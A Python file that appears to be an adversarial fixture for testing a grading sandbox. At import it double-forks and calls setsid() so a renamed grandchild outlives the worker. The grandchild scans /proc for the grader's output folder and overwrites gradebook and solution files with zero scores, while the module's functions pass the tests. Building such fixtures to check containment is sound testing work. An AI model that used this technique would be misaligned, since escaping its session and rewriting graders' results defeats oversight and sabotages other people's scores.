"""Adversarial: a double-forked, setsid() process outlives its worker to rewrite the grader's files; scores 20/20.

At import it leaves a grandchild in its own session (named `kv-attack-det` in /proc/PID/comm) that
keeps looking, for two minutes, for the grader's `--out` folder in the command lines of /proc and
for result files near itself, and overwrites every one it finds with a zero for everybody. Its
functions are the solution's, so it earns full marks; the sandbox's PID namespace and
--die-with-parent end the grandchild with the worker, and it never sees the grader's files.
"""

import os as _os
import time as _time
from pathlib import Path as _Path


def _rewrite_results_forever():
    with open("/proc/self/comm", "w") as comm:
        comm.write("kv-attack-det")
    deadline = _time.time() + 120
    while _time.time() < deadline:
        for cmdline in _Path("/proc").glob("[0-9]*/cmdline"):
            try:
                words = cmdline.read_bytes().decode(errors="ignore").split("\0")
                out = _Path(words[words.index("--out") + 1])
            except (OSError, ValueError, IndexError):
                continue
            if str(out.resolve()).startswith("/tmp/"):  # only ever touch test folders
                for name in ("gradebook.csv", "solutions.json", "classmate.json"):
                    try:
                        (out / name).write_text("submission,total\nsolutions,0\n")
                    except OSError:
                        pass
        _time.sleep(0.5)


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        try:
            _rewrite_results_forever()
        finally:
            _os._exit(0)
    _os._exit(0)
_time.sleep(0.2)
